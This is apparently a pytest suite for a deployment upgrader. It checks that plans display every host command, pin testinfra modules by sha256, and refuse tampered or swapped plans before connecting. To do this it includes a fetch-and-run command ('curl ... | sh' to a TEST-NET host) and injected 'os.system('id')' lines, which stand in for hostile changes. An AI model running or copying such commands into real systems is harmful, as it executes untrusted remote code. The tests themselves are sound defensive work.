"""Everything that runs is in the plan, pinned, and visible (issue 25 §1).

- every command a step runs on a host is shown in full in the text and Markdown plans;
- every file a testinfra check can import on the controller is pinned by sha256, and `apply plan.json`
  refuses a plan whose pinned file changed (or a file was added or removed), naming it, before
  anything connects: no pool, no transport, no agent;
- `diff` shows a changed argv and a changed pin;
- a scheduled unit carries the reviewed plan's hash, this command's state directory and artifact
  store, and refuses a plan swapped in after review.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from markdown_it import MarkdownIt

from upgrader.cli.main import main
from upgrader.loading.inputs import load_playbook
from upgrader.loading.pins import controller_files, import_root
from upgrader.models.plan import Plan

REPO = Path(__file__).resolve().parents[2]
PLAYBOOK = REPO / "playbooks" / "ordergw-5.2.0.yml"
INVENTORY = REPO / "inventories" / "prod-na.yml"  # TEST-NET addresses: nothing may connect to them
MODULE = REPO / "playbooks" / "verify" / "ordergw.py"
HOSTILE = ["/bin/sh", "-c", "curl -s https://203.0.113.9/x | sh"]

Record = Callable[[str, object], None]


def write_playbook(folder: Path, module: str = "verify/ordergw.py", **changes: Any) -> None:
    """The repo's ordergw playbook with a command check and a testinfra check, in ``folder``."""
    data = yaml.safe_load(PLAYBOOK.read_text())
    data["checks"] += [
        {"name": "fetch-and-run", "command": {"argv": HOSTILE}},
        {"name": "operator-tests", "testinfra": {"file": module, "timeout": "30s"}},
    ]
    data.update(changes)
    (folder / "playbook.yml").write_text(yaml.safe_dump(data, sort_keys=False))


@pytest.fixture
def saved(in_tmp: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Path:
    """playbook.yml (with a testinfra module), inventory.yml and plan.json in the working directory."""
    monkeypatch.setenv("UPGRADER_STATE_DIR", str(in_tmp / "state"))
    (in_tmp / "verify").mkdir()
    shutil.copy(MODULE, in_tmp / "verify" / "ordergw.py")
    (in_tmp / "verify" / "helpers.py").write_text("EXPECTED = 'ok'\n")
    write_playbook(in_tmp)
    shutil.copy(INVENTORY, in_tmp / "inventory.yml")
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
    capsys.readouterr()
    return in_tmp / "plan.json"


def apply(capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    code = main(["apply", "plan.json", "-i", "inventory.yml", "--yes", *extra])
    return code, capsys.readouterr().err


def sha(path: Path) -> str:
    return "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()


def test_the_plan_pins_the_module_and_what_it_can_import(saved: Path) -> None:
    pinned = {f["path"]: f["sha256"] for f in json.loads(saved.read_text())["controller_files"]}
    assert pinned == {
        "verify/helpers.py": sha(saved.parent / "verify" / "helpers.py"),
        "verify/ordergw.py": sha(saved.parent / "verify" / "ordergw.py"),
    }


def test_a_package_is_pinned_whole(in_tmp: Path) -> None:
    """verify/ is a package: pytest imports it from the playbook's directory, so all of that is code."""
    package = in_tmp / "verify"
    (package / "lib").mkdir(parents=True)
    for name in ("__init__.py", "ordergw.py", "lib/__init__.py", "lib/util.py"):
        (package / name).write_text(f"# {name}\n")
    (package / "__pycache__").mkdir()
    (package / "__pycache__" / "ordergw.cpython-311.pyc").write_bytes(b"stale")  # never read: private cache
    (package / "data.txt").write_text("not importable")
    (in_tmp / "sitehelper.py").write_text("# importable from the import root\n")
    (in_tmp / "not-a-package").mkdir()
    (in_tmp / "not-a-package" / "x.py").write_text("# a directory name Python cannot import\n")
    write_playbook(in_tmp)
    pb = load_playbook(in_tmp / "playbook.yml")
    assert import_root(package / "ordergw.py") == in_tmp
    assert [f.path for f in controller_files(pb.model, in_tmp)] == [
        "sitehelper.py",
        "verify/__init__.py",
        "verify/lib/__init__.py",
        "verify/lib/util.py",
        "verify/ordergw.py",
    ]


@pytest.mark.reliability(
    "a pinned testinfra module edited after the plan was reviewed",
    "apply PLAN.json refuses, naming the file, before any connection; exit 1",
)
@pytest.mark.parametrize(
    "change", ["edit the module", "edit a module it imports", "add a module beside it", "remove a module it imports"]
)
def test_apply_refuses_a_changed_controller_file_before_connecting(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record, change: str
) -> None:
    verify = saved.parent / "verify"
    named = {
        "edit the module": "verify/ordergw.py changed",
        "edit a module it imports": "verify/helpers.py changed",
        "add a module beside it": "verify/evil.py is new",
        "remove a module it imports": "verify/helpers.py is gone",
    }
    if change == "edit the module":
        (verify / "ordergw.py").write_text((verify / "ordergw.py").read_text() + "\nimport os; os.system('id')\n")
    elif change == "edit a module it imports":
        (verify / "helpers.py").write_text("import os; os.system('id')\n")
    elif change == "add a module beside it":
        (verify / "evil.py").write_text("import os; os.system('id')\n")
    else:
        (verify / "helpers.py").unlink()
    code, err = apply(capsys)
    assert code == 1, err
    assert named[change] in err and "nothing was contacted" in err, err
    assert connections == []
    record_property(
        "observed", f"{change}: exit {code}, {len(connections)} connection(s); {err.strip().splitlines()[0][:150]}"
    )


def test_an_unchanged_plan_gets_past_the_pins_to_the_hosts(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """The refusal above is the pins' doing: untouched, the same plan goes on to connect."""
    _, err = apply(capsys)
    assert connections == ["pool"], err


@pytest.mark.reliability(
    "a saved plan written by the previous upgrader (schema 2, no pins)",
    "apply refuses with a clear 'plan again' error before any connection",
)
def schema_2(saved: Path) -> str:
    """``saved`` as the upgrader of schema 2 wrote it: no pins, every step holding its operations."""
    plan = Plan.from_json(saved.read_text())
    data = plan.model_dump(mode="json", exclude={"controller_files": True, "hosts": {"__all__": {"undo"}}})
    return json.dumps({**data, "schema_version": 2}, sort_keys=True, indent=2)


def test_an_old_schema_plan_is_refused_clearly(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record
) -> None:
    saved.write_text(schema_2(saved))
    code, err = apply(capsys)
    assert code == 1 and "is a schema 2 plan; this upgrader applies schema 4 plans" in err, err
    assert "re-run `upgrader plan`" in err
    assert connections == []
    record_property("observed", f"exit {code}, {len(connections)} connection(s): {err.strip().splitlines()[0][:140]}")


def test_every_command_is_shown_in_the_text_and_markdown_plans(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline"]) == 0
    text = capsys.readouterr().out
    assert "check fetch-and-run (command)" in text and "/bin/sh -c 'curl -s https://203.0.113.9/x | sh'" in text
    assert "verify/ordergw.py" in text and sha(saved.parent / "verify" / "ordergw.py") in text
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--format", "markdown"]) == 0
    markdown = capsys.readouterr().out
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    code = [c.content for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "code_inline"]
    assert "/bin/sh -c 'curl -s https://203.0.113.9/x | sh'  # expects exit 0" in code
    assert "{release}/bin/migrate-config" not in markdown  # substituted, as the agent runs it:
    assert any(c.startswith("/opt/ordergw/releases/5.2.0/bin/migrate-config") for c in code)
    assert any(c.startswith("systemctl start ordergw") or "ordergw" in c for c in code)


def test_a_long_command_is_folded_but_present(in_tmp: Path, capsys: pytest.CaptureFixture[str]) -> None:
    long_argv = ["/usr/bin/env", *[f"ARG{i}=" + "x" * 20 for i in range(6)], "/bin/true"]
    data = yaml.safe_load(PLAYBOOK.read_text())
    data["checks"].append({"name": "long", "command": {"argv": long_argv}})
    (in_tmp / "playbook.yml").write_text(yaml.safe_dump(data))
    shutil.copy(INVENTORY, in_tmp / "inventory.yml")
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--format", "markdown"]) == 0
    tokens = MarkdownIt("commonmark").enable("table").parse(capsys.readouterr().out)
    fences = [t.content for t in tokens if t.type == "fence"]
    assert [f for f in fences if f.startswith(" ".join(long_argv))]
    folded = re.compile(r"<summary>command \d+: check long \(command\)</summary>")
    assert any(t.type == "html_block" and folded.search(t.content) for t in tokens)


def diff_lines(old: Path, new: Path, capsys: pytest.CaptureFixture[str], fmt: str = "text") -> str:
    capsys.readouterr()
    assert main(["diff", str(old), str(new), "--format", fmt]) == 1
    return capsys.readouterr().out


def test_diff_shows_a_changed_argv_and_a_changed_pin(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = saved.parent / "before.json"
    shutil.copy(saved, before)
    (saved.parent / "verify" / "ordergw.py").write_text("def test_x():\n    pass\n")
    write_playbook(saved.parent, migrate={"command": ["{release}/bin/migrate-config", "--really"]})
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
    text = diff_lines(before, saved, capsys)
    assert (
        "migrate to 5.2.0: runs /opt/ordergw/releases/5.2.0/bin/migrate-config --really instead of "
        "/opt/ordergw/releases/5.2.0/bin/migrate-config"
    ) in text
    assert "controller file verify/ordergw.py: content changed (sha256:" in text
    markdown = diff_lines(before, saved, capsys, "markdown")
    items = [t.content for t in MarkdownIt("commonmark").parse(markdown) if t.type == "inline"]
    assert any(i.startswith("controller file verify/ordergw.py: content changed") for i in items)
    assert any("--really instead of" in i for i in items)


def test_diff_shows_a_command_checks_argv(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = saved.parent / "before.json"
    shutil.copy(saved, before)
    data = yaml.safe_load((saved.parent / "playbook.yml").read_text())
    data["checks"][-2]["command"]["argv"] = ["/bin/sh", "-c", "curl -s https://203.0.113.9/y | sh"]
    (saved.parent / "playbook.yml").write_text(yaml.safe_dump(data, sort_keys=False))
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
    text = diff_lines(before, saved, capsys)
    assert (
        "check fetch-and-run (command): runs /bin/sh -c 'curl -s https://203.0.113.9/y | sh'  # expects exit 0 "
        "instead of /bin/sh -c 'curl -s https://203.0.113.9/x | sh'"
    ) in text


def schedule_argv(saved: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> list[str]:
    """`schedule plan.json` into units/, and the upgrader arguments of the service's ExecStart."""
    artifacts = saved.parent / "store"
    artifacts.mkdir()
    (saved.parent / "units").mkdir(exist_ok=True)  # output paths are never created (loading/output.py)
    assert (
        main(
            [
                "--state-dir",
                str(saved.parent / "sched-state"),
                "schedule",
                "plan.json",
                "-i",
                "inventory.yml",
                "--on",
                "2099-12-05 02:00 America/New_York",
                "--unit-dir",
                "units",
                "--artifacts",
                str(artifacts),
                *extra,
            ]
        )
        == 0
    )
    capsys.readouterr()
    service = (saved.parent / "units" / "upgrader-ordergw-5.2.0.service").read_text()
    exec_start = next(line for line in service.splitlines() if line.startswith("ExecStart="))
    words = exec_start.removeprefix("ExecStart=").split(" ")  # no quoting needed: tmp paths have no spaces
    return words[words.index("upgrader") + 1 :] if "upgrader" in words else words[1:]


def test_the_scheduled_unit_carries_the_hash_state_dir_and_artifact_store(
    saved: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = schedule_argv(saved, capsys)
    reviewed = json.loads(saved.read_text())["content_hash"]
    assert argv[:3] == ["--state-dir", str(saved.parent / "sched-state"), "apply"]
    assert argv[argv.index("--plan-hash") + 1] == reviewed
    assert argv[argv.index("--artifacts") + 1] == str(saved.parent / "store")
    service = (saved.parent / "units" / "upgrader-ordergw-5.2.0.service").read_text()
    assert f"Environment=UPGRADER_STATE_DIR={saved.parent / 'sched-state'}\n" in service


@pytest.mark.reliability(
    "playbook and plan.json replaced (and re-planned) after `schedule PLAN.json`",
    "the timer's apply refuses the swapped plan before any connection; exit 1",
)
def test_the_scheduled_unit_refuses_a_swapped_plan(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Record
) -> None:
    argv = schedule_argv(saved, capsys)
    data = yaml.safe_load((saved.parent / "playbook.yml").read_text())
    data["canary"]["bake"] = "0s"  # the swap: no bake, a consistent new plan for it
    (saved.parent / "playbook.yml").write_text(yaml.safe_dump(data, sort_keys=False))
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
    capsys.readouterr()
    code = main(argv)
    err = capsys.readouterr().err
    assert code == 1 and "not the reviewed plan" in err, err
    assert connections == []
    record_property("observed", f"exit {code}, {len(connections)} connection(s): {err.strip().splitlines()[0][:150]}")


def test_the_scheduled_unit_checks_the_signature_when_a_key_is_given(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    key = saved.parent / "plan.key"
    key.write_text("k" * 32)
    assert (
        main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json", "--plan-key", str(key)])
        == 0
    )
    argv = schedule_argv(saved, capsys, "--plan-key", str(key))
    assert argv[argv.index("--plan-key") + 1] == str(key)
    (saved.parent / "plan.json.sig").write_text("hmac-sha256:" + "0" * 64 + "\n")
    code = main(argv)
    assert code == 1 and "does not match" in capsys.readouterr().err
    assert connections == []


def _pinned_module(folder: Path) -> tuple[Path, list[Any]]:
    (folder / "verify").mkdir()
    (folder / "verify" / "helper.py").write_text("WHERE = __file__\n")
    (folder / "verify" / "mod.py").write_text(
        "import os\nfrom helper import WHERE\n\n\ndef test_where():\n"
        "    with open(os.environ['WHERE_OUT'], 'w') as out:\n        out.write(__file__ + '\\n' + WHERE)\n"
    )
    write_playbook(folder, module="verify/mod.py")
    pb = load_playbook(folder / "playbook.yml")
    return folder / "verify" / "mod.py", controller_files(pb.model, folder)


@pytest.mark.reliability(
    "a pinned testinfra file edited during the run, after apply checked the pins",
    "the check fails without running the module (no pytest process)",
)
def test_a_module_edited_after_the_check_never_runs(
    in_tmp: Path, monkeypatch: pytest.MonkeyPatch, record_property: Record
) -> None:
    import subprocess

    from upgrader.engine.testinfra_check import run_module
    from upgrader.transport.base import Endpoint

    module, pinned = _pinned_module(in_tmp)
    (in_tmp / "verify" / "helper.py").write_text("import os; os.system('id')\n")  # between apply's check and now
    started: list[object] = []
    monkeypatch.setattr(subprocess, "Popen", lambda *a, **k: started.append(a) or pytest.fail("pytest started"))
    result = run_module(
        module,
        Endpoint("h1", "192.0.2.1"),
        component="ordergw",
        version="5.2.0",
        timeout=30,
        pinned=pinned,
        base=in_tmp,
    )
    assert (
        not result.ok
        and result.error == "controller file verify/helper.py changed since the plan was reviewed; not run"
    )
    assert started == []
    record_property("observed", f"ok={result.ok}; {result.error}; {len(started)} process(es) started")


def test_the_module_runs_from_a_private_copy_of_the_pinned_files(in_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever changes in the playbook's directory while the module runs, Python imports the checked bytes."""
    from upgrader.engine.testinfra_check import run_module
    from upgrader.transport.base import Endpoint

    module, pinned = _pinned_module(in_tmp)
    out = in_tmp / "where.txt"
    monkeypatch.setenv("WHERE_OUT", str(out))
    result = run_module(
        module,
        Endpoint("h1", "192.0.2.1"),
        component="ordergw",
        version="5.2.0",
        timeout=60,
        connect_timeout=1,
        pinned=pinned,
        base=in_tmp,
    )
    assert result.ok, result
    ran, helper = out.read_text().splitlines()
    assert ran.endswith("/src/verify/mod.py") and helper.endswith("/src/verify/helper.py")
    assert not ran.startswith(str(in_tmp))


def test_diff_reads_a_plan_of_the_previous_schema(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`diff` against a base branch's older plan still works, and says what the new schema adds."""
    before = saved.parent / "before.json"
    before.write_text(schema_2(saved))
    text = diff_lines(before, saved, capsys)
    assert "plan schema 2 → 4" in text
    assert "controller file verify/ordergw.py: now pinned (sha256:" in text


def test_plan_hash_belongs_to_a_saved_plan(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    reviewed = json.loads(saved.read_text())["content_hash"]
    assert main(["apply", "playbook.yml", "-i", "inventory.yml", "--yes", "--plan-hash", reviewed]) == 1
    assert "--plan-hash names a saved plan's hash" in capsys.readouterr().err
    with pytest.raises(SystemExit) as usage:
        main(["apply", "plan.json", "-i", "inventory.yml", "--yes", "--plan-hash", "abc"])
    assert usage.value.code == 2
    assert connections == []
